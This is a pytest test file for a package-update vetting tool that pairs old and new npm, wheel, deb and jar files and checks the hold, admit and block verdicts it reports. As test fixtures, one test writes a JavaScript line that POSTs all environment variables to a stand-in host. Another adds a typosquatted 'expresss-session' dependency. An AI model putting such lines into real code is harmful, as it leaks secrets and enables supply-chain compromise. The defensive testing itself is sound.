"""A folder of packages: each beside the one of its name; one poisoned among many is found, and one verdict stands over all."""

import json
import shutil
import sys
from collections.abc import Callable
from functools import partial
from pathlib import Path

import pytest

from beartrap.cli.main import main
from beartrap.flows.progress import Silent
from beartrap.flows.vet import BadUpdate, Settings, Subject, vet
from beartrap.flows.vet_each import _by_copies, _by_threads
from beartrap.flows.vet_folder import Pair, compare_folders
from beartrap.model.verdict import Admission
from beartrap.model.vetting import Vetted

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "vet"))
from package_lab import npm, wheel


def folders(home: Path) -> tuple[Path, Path]:
    """Return two empty folders, for what is trusted and for the update."""
    for name in ("old", "new"):
        (home / name).mkdir()
    return home / "old", home / "new"


def named(folder: Path, *names: str) -> Path:
    """Put files into a folder whose content is their own name."""
    for name in names:
        (folder / name).write_text(name)
    return folder


def asked(*words: str | Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, dict]:
    code = main(["vet", *map(str, words), "--json", "--quiet", "--workers", "1"])
    return code, json.loads(capsys.readouterr().out)


def test_one_poisoned_package_among_many_holds_the_folder_and_is_named(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old, new = folders(tmp_path)
    npm(old, "thing", "1.0.0", {"index.js": "1\n"})
    npm(new, "thing", "1.0.1", {"index.js": "1\n"}, dependencies={"expresss-session": "^1.0.0"})
    wheel(old, "calm", "1.0", {"calm.py": "x = 1\n"})
    wheel(new, "calm", "1.1", {"calm.py": "x = 2\n"})
    shutil.copy(wheel(old, "still", "2.0", {"still.py": "x = 1\n"}), new)
    npm(old, "gone", "1.0.0", {"index.js": "1\n"})
    code, told = asked(old, new, capsys=capsys)
    assert (code, told["verdict"]) == (12, "hold")
    verdicts = {Path(one["new"]).name: (one["verdict"], Path(one["old"]).name) for one in told["packages"]}
    assert verdicts == {
        "thing-1.0.1.tgz": ("hold", "thing-1.0.0.tgz"),
        "calm-1.1-py3-none-any.whl": ("admit", "calm-1.0-py3-none-any.whl"),
    }
    assert told["removed"] == ["gone-1.0.0.tgz"]
    assert told["counts"]["packages_same"] == 1
    assert told["reasons"][0].startswith("Hold ") and not told["gaps"]


def test_a_folder_whose_packages_are_what_they_were_is_admitted(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old, new = folders(tmp_path)
    for name in ("one", "two"):
        shutil.copy(npm(old, name, "1.0.0", {"index.js": "1\n"}), new)
    code, told = asked(old, new, capsys=capsys)
    assert code == 0 and told["packages"] == [] and told["reasons"] == ["Nothing has changed."]


def test_nothing_to_compare_with_is_said_of_each(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old, new = folders(tmp_path)
    npm(old, "one", "1.0.0", {"index.js": "1\n"})
    for name in ("one", "two"):
        npm(new, name, "1.0.1", {"index.js": "2\n"})
    _, told = asked(old, new, capsys=capsys)
    assert [one["old"] and Path(one["old"]).name for one in told["packages"]] == ["one-1.0.0.tgz", None]
    _, alone = asked(new, capsys=capsys)
    assert [one["old"] for one in alone["packages"]] == [None, None] and alone["old"] is None


def test_a_source_tree_is_of_one_package(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    old, new = folders(tmp_path)
    for name in ("one", "two"):
        npm(new, name, "1.0.1", {"index.js": "2\n"})
    assert main(["vet", str(old), str(new), "--source", str(old), "--quiet"]) in (0, 2, 12)
    assert main(["vet", str(new), "--source", str(old), "--quiet"]) == 2
    assert "--source is the source of one" in capsys.readouterr().err


@pytest.mark.parametrize(
    ("before", "after", "counterpart"),
    [
        (("thing-1.0.tgz", "thing-core-1.0.tgz"), "thing-1.1.tgz", "thing-1.0.tgz"),
        (("my_thing-1.0-py3-none-any.whl",), "my.thing-1.1-py3-none-any.whl", "my_thing-1.0-py3-none-any.whl"),
        (("t-1.0.tgz", "t-1.9.tgz", "t-2.0.tgz"), "t-1.10.tgz", "t-1.9.tgz"),
        (("t-2.0.tgz", "t-3.0.tgz"), "t-1.10.tgz", "t-2.0.tgz"),
        (("t-1.0-cp311-cp311-win_amd64.whl", "t-1.0-cp311-cp311-manylinux1_x86_64.whl"), "t-1.1-cp311-cp311-win_amd64.whl", "t-1.0-cp311-cp311-win_amd64.whl"),
        (("t-1.0-py3-none-any.whl", "t-1.0.tar.gz"), "t-1.1.tar.gz", "t-1.0.tar.gz"),
        (("tool_1.0-1_arm64.deb", "tool_1.0-1_amd64.deb"), "tool_1.0-2_amd64.deb", "tool_1.0-1_amd64.deb"),
        (("lib-1.0.jar", "lib-1.0-sources.jar"), "lib-1.1.jar", "lib-1.0.jar"),
        (("plain.zip",), "plain.zip", "plain.zip"),
        (("thing-1.0.tgz",), "thing2-1.0.tgz", None),
        (("thing-1.0.tgz",), "thin-1.0.tgz", None),
    ],
)  # fmt: skip
def test_a_package_is_compared_with_the_nearest_of_its_name_and_build(
    tmp_path: Path, before: tuple[str, ...], after: str, counterpart: str | None
) -> None:
    old, new = folders(tmp_path)
    named(old, *before)
    (new / after).write_text("changed")
    wanted = old / counterpart if counterpart is not None else None
    assert compare_folders(old, new).pairs == (Pair(wanted, new / after),)


def test_what_belongs_to_packages_makes_no_other_folder_of_it(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    old, new = folders(tmp_path)
    for folder, version in ((old, "1.0.0"), (new, "1.0.1")):
        for name in ("one", "two"):
            npm(folder, name, version, {"index.js": f"'{version}'\n"})
        named(folder, "SHA256SUMS", "SHA256SUMS.asc", f"one-{version}.tgz.asc")
    _, told = asked(old, new, capsys=capsys)
    assert len(told["packages"]) == 2 and not told["gaps"]


def test_copies_and_threads_tell_the_same_of_each_package(tmp_path: Path) -> None:
    old, new = folders(tmp_path)
    for name in ("one", "two", "three", "four"):
        npm(old, name, "1.0.0", {"index.js": "1\n"})
        steals = "require('https').request('https://c.invalid', {method: 'POST'}).end(JSON.stringify(process.env))\n"
        npm(new, name, "1.0.1", {"index.js": steals if name == "two" else "2\n"})
    jobs = [
        partial(vet, Subject(pair.old, "old"), Subject(pair.new, "new"), Settings())
        for pair in compare_folders(old, new).pairs
    ]
    by_copies, by_threads = dict(_by_copies(jobs, 2, Silent())), dict(_by_threads(jobs, 2))
    assert by_copies == by_threads
    assert [by_copies[number].verdict.value for number in range(4)].count("block") == 1


@pytest.mark.parametrize(
    "way", [lambda jobs: _by_copies(jobs, 2, Silent()), lambda jobs: _by_threads(jobs, 2)], ids=["copies", "threads"]
)
def test_one_package_that_breaks_costs_itself_and_a_bad_one_is_told(way: Callable) -> None:
    def breaks() -> Vetted:
        raise ValueError("a fault of ours")

    def bad() -> Vetted:
        raise BadUpdate("thing.whl: there is no such file or folder")

    calm = Vetted("new", "old", Admission.ADMIT, ("Nothing has changed.",))
    found = dict(way([lambda: calm, breaks]))
    assert found[0] == calm and "ValueError: a fault of ours" in found[1].why
    with pytest.raises(BadUpdate, match=r"thing\.whl"):
        list(way([bad]))
